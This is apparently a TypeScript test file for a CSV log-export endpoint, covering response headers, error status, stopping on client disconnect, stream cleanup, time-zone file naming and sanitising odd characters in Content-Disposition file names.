    return { port: (server.address() as AddressInfo).port, finished };
  }

  function get(port: number): Promise<IncomingMessage> {
    return new Promise((resolve, reject) => {
      request({ host: "127.0.0.1", port, path: "/api/v1/log/export" }, resolve).on("error", reject).end();
    });
  }

  it("serves the seed's sample over a real HTTP server with download headers", async () => {
    const { port, finished } = await serve(await storeWith(seedLogRecords), { batchSize: 7 });
    const response = await get(port);
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(response.headers["content-disposition"]).toBe('attachment; filename="logs-20150317-173012.csv"');
    const parts: Buffer[] = [];
    for await (const part of response) parts.push(part as Buffer);
    expect(Buffer.concat(parts).toString("utf8")).toBe(seedCsvText);
    expect(await finished).toBe("completed");
  });

  it("answers an error status when the store fails before the first chunk", async () => {
    const failing: CsvSource = {
      lastLogId: async () => 10,
      queryLogs: async () => {
        throw new Error("database down");
      },
    };
    const { port, finished } = await serve(failing);
    const response = await get(port);
    expect(response.statusCode).toBe(503);
    response.resume();
    expect(await finished).toMatchObject({ message: "database down" });
  });

  it("stops reading the store when the client disconnects", async () => {
    const store = await storeWith(Array.from({ length: 20_000 }, (_, i) => record(i, { message: `${"x".repeat(200)} ${i}` })));
    const { source, queries } = observed(store);
    const { port, finished } = await serve(source, { batchSize: 100 });
    const response = await get(port);
    await once(response, "readable");
    response.destroy();
    await finished;
    await settle();
    const count = queries.length;
    expect(count).toBeLessThan(200);
    await settle();
    expect(queries.length).toBe(count);
  });

  it("openCsvStream's Readable destroyed before any read still runs the export's cleanup", async () => {
    for (const error of [undefined, new Error("client gone")]) {
      const steps: string[] = [];
      async function* chunks(): AsyncGenerator<string> {
        try {
          steps.push("first");
          yield "header\r\n";
          steps.push("second");
          yield "row\r\n";
        } finally {
          steps.push("cleanup");
        }
      }
      const body = await openCsvStream(chunks());
      // events.once would reject on the "error" event that destroy(error) emits first.
      const closed = new Promise((resolve) => body.once("close", resolve));
      body.on("error", () => undefined);
      body.destroy(error);
      await closed;
      expect(steps).toEqual(["first", "cleanup"]);
    }
  });

  it("openCsvStream replays the first chunk and ends an empty source", async () => {
    async function* two(): AsyncGenerator<string> {
      yield "a";
      yield "b";
    }
    async function* none(): AsyncGenerator<string> {}
    expect(await collect(await openCsvStream(two()))).toBe("ab");
    expect(await collect(await openCsvStream(none()))).toBe("");
  });

  it("names the file after the export time in a time zone", () => {
    const at = new Date(Date.UTC(2015, 2, 17, 17, 30, 12, 999));
    expect(csvFileName(at)).toBe("logs-20150317-173012.csv");
    expect(csvFileName(at.getTime(), "Europe/Berlin")).toBe("logs-20150317-183012.csv");
    expect(csvFileName(Date.UTC(2015, 11, 31, 23, 59, 59), "Asia/Tokyo")).toBe("logs-20160101-085959.csv");
    expect(() => csvFileName(at, "Nowhere/Land")).toThrow(ValidationError);
  });

  it("keeps Content-Disposition safe for odd file names", () => {
    expect(csvHttpHeaders({ fileName: 'a"b\\c\r\n.csv' })["Content-Disposition"]).toBe('attachment; filename="a_b_c__.csv"');
    expect(csvHttpHeaders({ fileName: "journal-é (1).csv" })["Content-Disposition"]).toBe(
      `attachment; filename="journal-_ (1).csv"; filename*=UTF-8''journal-%C3%A9%20%281%29.csv`,
    );
    expect(csvHttpHeaders()["Cache-Control"]).toBe("no-store");
  });
});
